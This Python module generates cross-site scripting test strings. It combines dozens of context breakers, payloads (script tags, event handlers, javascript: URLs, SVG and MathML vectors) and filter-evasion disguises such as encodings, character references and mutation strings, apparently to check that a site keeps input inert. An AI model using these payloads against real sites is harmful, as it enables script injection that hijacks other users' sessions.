"""Markup that runs something: what runs × what it breaks out of × how it is disguised.

Where a site keeps every word a word, none of them does anything, wherever it is written.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product

RUN = "alert(1)"

BREAKERS = {
    "text": "",
    "attribute in double quotes": '">',
    "attribute in single quotes": "'>",
    "attribute without quotes": " x>",
    "attribute with another": "\" autofocus onfocus=alert(1) x='",
    "address": "javascript:alert(1)//",
    "comment": "-->",
    "comment, as browsers mend it": "--!>",
    "script": "</script>",
    "script, in capitals": "</SCRIPT\t>",
    "words of a script": "';alert(1);//</script>",
    "data of a script": '"}]}</script>',
    "template of a script": "${alert(1)}`</script>",
    "style": "</style>",
    "words of a style": "'}*{x:expression(alert(1))}</style>",
    "address of a style": "url(');}</style>",
    "event handler": "');alert(1);('",
    "document type": "]>",
    "frame": "</iframe></noframes></noembed>",
    "table": "</caption></td></tr></table>",
    "title": "</title>",
    "text field": "</textarea>",
    "choice": "</option></select>",
    "no scripts": "</noscript>",
    "shown as written": "</xmp></plaintext></listing>",
    "vector graphics": "</desc></svg>",
    "formulas": "</mtext></math>",
    "template": "</template>",
    "marked section": "]]>",
    "processing instruction": "?>",
    "our own templates": "{% endautoescape %}{{ x|safe }}",
    "what a cleaner mends": '<math><mtext><table><mglyph><style><!--</style><a title="--></a>',
    "what a cleaner takes out": "<svg></p><style><a id='</style>",
}
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script of another": "<script src=//127.0.0.1:9/a></script>",
    "module": "<script type=module>import '//127.0.0.1:9/b'</script>",
    "picture": "<img src=x onerror=alert(1)>",
    "picture of many": "<picture><source srcset=x><img onerror=alert(1) src=x></picture>",
    "film": "<video><source onerror=alert(1)></video>",
    "sound": "<audio src=x onerror=alert(1)></audio>",
    "vector graphics": "<svg onload=alert(1)>",
    "vector script": "<svg><script>alert(1)</script></svg>",
    "animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "animated link": "<svg><a><set attributeName=href to=javascript:alert(1)></set></a></svg>",
    "other markup": "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "formulas": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</math>",
    "body": "<body onload=alert(1)>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frame of a script": "<iframe src=javascript:alert(1)></iframe>",
    "link": "<a href=javascript:alert(1)>x</a>",
    "link of data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "form": "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "button": "<button formaction=javascript:alert(1) form=f>x</button>",
    "field": "<input autofocus onfocus=alert(1)>",
    "choice": "<select autofocus onfocus=alert(1)></select>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "running text": "<marquee onstart=alert(1)>x</marquee>",
    "any element": "<x onpointerenter=alert(1) style=position:fixed;inset:0 tabindex=1>",
    "popover": "<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>x</button>",
    "object": "<object data=javascript:alert(1)></object>",
    "embedded": "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "base": "<base href=//127.0.0.1:9/>",
    "sent on": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "style sheet": "<link rel=stylesheet href=//127.0.0.1:9/c>",
    "style": "<style>@import '//127.0.0.1:9/d';*{background:url(//127.0.0.1:9/e)}</style>",
    "hidden template": "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "rules of what comes": '<script type=speculationrules>{"prefetch":[{"urls":["/x"]}]}</script>',
}


def _with_slashes(text: str) -> str:
    """Slashes for the spaces of the first tag."""
    head, end, rest = text.partition(">")
    return head.replace(" ", "/") + end + rest


def _referenced(text: str) -> str:
    """Letters of what runs as character references, which attributes decode."""
    return text.replace(RUN, "&#x61;&#108;ert&lpar;1&rpar;").replace(
        "script:", "scr&Tab;ipt&colon;"
    )


DISGUISES: dict[str, Callable[[str], str]] = {
    "none": str,
    "capitals": lambda text: text.replace("script", "ScRiPt").replace(" on", " oN"),
    "slashes": _with_slashes,
    "line ends": lambda text: text.replace(" ", "\n", 1).replace("=", "\n=\n", 1),
    "references": _referenced,
    "references without end": lambda text: text.replace(RUN, "&#0000097lert&#401&#41"),
    "encoded": lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    "encoded twice": lambda text: text.replace("<", "%253C").replace(">", "%253E"),
    "full width": lambda text: text.replace("<", "＜").replace(">", "＞"),
    "UTF-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "not closed": lambda text: text.removesuffix(">"),
    "in another": lambda text: text.replace("<", "<<", 1).replace("script", "scr<x>ipt", 1),
}


def cases() -> Iterator[str]:
    """Every payload behind every breaker, each time in the next disguise; then bare, in each."""
    turns = list(DISGUISES.values())
    for number, (breaker, payload) in enumerate(product(BREAKERS.values(), PAYLOADS.values())):
        # 12 disguises and 34 payloads share a divisor: without the shift some never meet.
        disguise = turns[(number + number // len(PAYLOADS)) % len(turns)]
        yield breaker + disguise(payload)
    for disguise, payload in product(turns, PAYLOADS.values()):
        yield disguise(payload)


ALL = list(dict.fromkeys(cases()))


def batches(number: int) -> list[list[str]]:
    """All cases in so many batches; each begins with another payload and ends of all contexts.

    A field that holds little sees only the start of a batch, so that must be worth something.
    """
    ends = "".join(one for one in BREAKERS.values() if one.startswith("</"))
    starts = list(PAYLOADS.values())[:: len(PAYLOADS) // number]
    return [[f"'\"-->{starts[n]}{ends}", *ALL[n::number]] for n in range(number)]
